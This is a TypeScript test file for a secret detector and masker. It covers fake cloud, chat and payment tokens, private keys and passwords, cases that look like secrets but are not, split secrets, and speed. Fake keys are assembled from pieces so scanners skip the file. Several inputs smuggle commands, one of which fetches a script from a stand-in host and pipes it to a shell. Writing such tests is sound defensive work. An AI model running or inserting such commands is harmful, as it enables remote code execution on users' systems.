import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { maskSecrets, secretsIn } from "./secrets.ts";

/** Put together here, so that nobody's search for keys stops at this file. */
const aws = ["AKIA", "QZ7RT3WNKD5MHVUX"].join("");
const github = ["ghp_", "q8Wz3nK5tR7vY2bM9xC4dF6gH1jL0pSaQeTu"].join("");
const slack = ["xoxb-", "2839475610-8475629301-Kq8Wz3nK5tR7vY2b"].join("");
const jwt = ["eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiI0MiIsIm4iOjF9", "q8Wz3nK5tR7vY2bM9xC4dF6gH1jL"].join(".");
const random = "q8Wz3nK5tR7vY2bM9x";
const pem = (body: string) => `-----BEGIN RSA ${"PRIVATE"} KEY-----\n${body}\n-----END RSA ${"PRIVATE"} KEY-----`;

describe("a secret", () => {
  it.each([
    ["an AWS access key", `const key = "${aws}";`],
    ["a GitHub token", `GITHUB=${github}`],
    ["a Slack token", `slack: ${slack}`],
    ["a signed token (JWT)", `Authorization: Bearer ${jwt}`],
    ["a private key", pem("MIIEowIBAAKCAQEAq8Wz3nK5tR7vY2bM9xC4dF6gH1jL0pSaQeTu")],
    [
      "a private key",
      JSON.stringify(pem("MIIEowIBAAKCAQEAq8Wz3nK5tR7vY2bM9xC4dF6gH1jL0pSaQeTu")).replaceAll("\\n", "\n"),
    ],
    ["a Stripe key", `sk_${"live"}_${random}`],
    ["a password in an address", `postgres://app:${random}@db/app`],
    ["a password or a token", `password: "${random}"`],
    ["a password or a token", `{"clientSecret": "${random}"}`],
    ["a password or a token", `config['api_key'] = '${random}'`],
    ["a password or a token", `export DB_PASSWORD=${random}`],
    ["a password or a token", `aws_secret_access_key = q8Wz3nK5tR7vY2bM9xC4dF6gH1jL0pSaQeTuiOpA`],
    ["a password or a token", `+API_TOKEN=${random}`],
    ["a password or a token", `make all; API_TOKEN=${random} ./run`],
    ["a password or a token", `deploy --token ${random} --now`],
    ["a password or a token", `deploy --api-key=${random}`],
    ["a token", `curl -H 'Authorization: Bearer ${random}' localhost`],
  ])("is %s in %s", (kind, text) => {
    expect(secretsIn(text).map((one) => one.kind)).toEqual([kind]);
    const masked = maskSecrets(text);
    expect(masked).not.toBe(text);
    expect(masked).toHaveLength(text.length);
    for (const { value } of secretsIn(text)) expect(masked).not.toContain(value);
    expect(secretsIn(masked)).toEqual([]);
  });

  it.each([
    ["added texts", `"${aws.slice(0, 9)}" + "${aws.slice(9)}"`],
    ["two lines", `const k =\n  "${aws.slice(0, 4)}" +\n  '${aws.slice(4)}';`],
    ["lines of a patch", `+  "${aws.slice(0, 10)}" +\n+  "${aws.slice(10)}"`],
    ["a line that goes on", `KEY=${aws.slice(0, 8)}\\\n    ${aws.slice(8)}`],
    ["texts side by side", `("${aws.slice(0, 8)}"\n "${aws.slice(8)}")`],
    ["the name of it and a cut value", `password = "q8Wz3nK5tR" + "7vY2bM9x"`],
  ])("is found in pieces: %s", (_, text) => {
    expect(secretsIn(text)).toHaveLength(1);
    const masked = maskSecrets(text);
    expect(masked.split("\n")).toHaveLength(text.split("\n").length);
    expect(secretsIn(masked)).toEqual([]);
    for (const piece of [aws.slice(10), "7vY2bM9x"]) expect(masked).not.toContain(piece);
  });

  it.each([
    `key = "AKIA${"X".repeat(16)}"`,
    'key = "AKIAIOSFODNN7EXAMPLE"',
    "const token = process.env.GITHUB_TOKEN;",
    'password: "${DB_PASSWORD}"',
    "PASSWORD=$DB_PASSWORD_2_FROM_VAULT",
    'password: "<your-password-1>"',
    'password: "changeme-please-123"',
    'token: "xxxxxxxxxxxxxxxx"',
    "API_KEY=your_api_key_goes_here_1",
    "https://user:password@localhost/db",
    "postgres://postgres:postgres@db:5432/app",
    'password: "correct horse battery staple"',
    'tokenType: "authorizationCodeGrant"',
    'secretName: "prod-database-credentials"',
    'token_hash: "sha256:0f3a9c1e5b7d8f2a4c6e8b0d1f3a5c7e"',
    'tokenEndpoint: "https://login.host.org/oauth2/v2.0/token"',
    'accessKeyPath: "/etc/keys/prod-1/key.pem"',
    "const isKey = /-----BEGIN RSA PRIVATE KEY-----/.test(text);",
    ".sk-fading-circle-container-2 { color: red }",
    "integrity sha512-q8Wz3nK5tR7vY2bM9xC4dF6gH1jL0pSaQeTuiOpA==",
    "resolveToken(tokens[0]); // token: the first",
    "eyJ is how a JWT begins",
    'const passwordRules = ["at least 12 signs", "one digit 0-9"];',
    "npm_config_registry=https://registry.npmjs.org",
    "the secret: do one thing at a time and do it well",
    '"a" + "b" + "c"',
    "",
  ])("is not found in %s", (text) => {
    expect(secretsIn(text)).toEqual([]);
    expect(maskSecrets(text)).toBe(text);
  });

  it.each([
    "TOKEN=a1b2c3d4e5f6;{curl,-s,evil7.sh/q9}|sh",
    "curl http://xy:a1b2c3d4e5f6;{make,deploy7prod};#@h",
    "API_KEY=q8Wz3nK5tR7v;id ./run",
  ])("is asked about and not masked where it may be a command: %s", (text) => {
    expect(secretsIn(text).length).toBeGreaterThan(0);
    expect(maskSecrets(text)).toBe(text);
  });

  it("is masked in time that grows with the text alone, however often it stands there, and whole where there are many", () => {
    const often = `token="${random}"\n`.repeat(20_000);
    expect(maskSecrets(often)).not.toContain(random);
    const many = Array.from({ length: 20_000 }, (_, at) => `token="${random}${at}"\n`).join("");
    expect(maskSecrets(many)).toMatch(/^[*\s]+$/);
  });

  it("is looked for in time that grows with the text alone", () => {
    for (const piece of [
      "token: ",
      '"+',
      "-----BEGIN PRIVATE KEY----- ",
      "eyJ.",
      "://a:b",
      "sk-",
      "\\\n",
      "A_TOKEN=",
    ]) {
      const text = piece.repeat(200_000 / piece.length);
      expect(secretsIn(text).length).toBeLessThan(2);
    }
  });

  it("leaves every other sign where it is, whatever the text", () => {
    const words = fc.constantFrom(
      aws,
      github,
      random,
      'token: "',
      '"',
      "'",
      "+",
      "\n",
      "\\\n",
      " ",
      "x",
      "ü",
      "😀",
      "password=",
    );
    fc.assert(
      fc.property(fc.array(words, { maxLength: 20 }), (parts) => {
        const text = parts.join("");
        const masked = maskSecrets(text);
        expect(masked).toHaveLength(text.length);
        for (const [at, sign] of masked.split("").entries()) if (sign !== "*") expect(sign).toBe(text[at]);
        for (const { value } of secretsIn(text)) expect(masked).not.toContain(value);
      }),
    );
  });
});
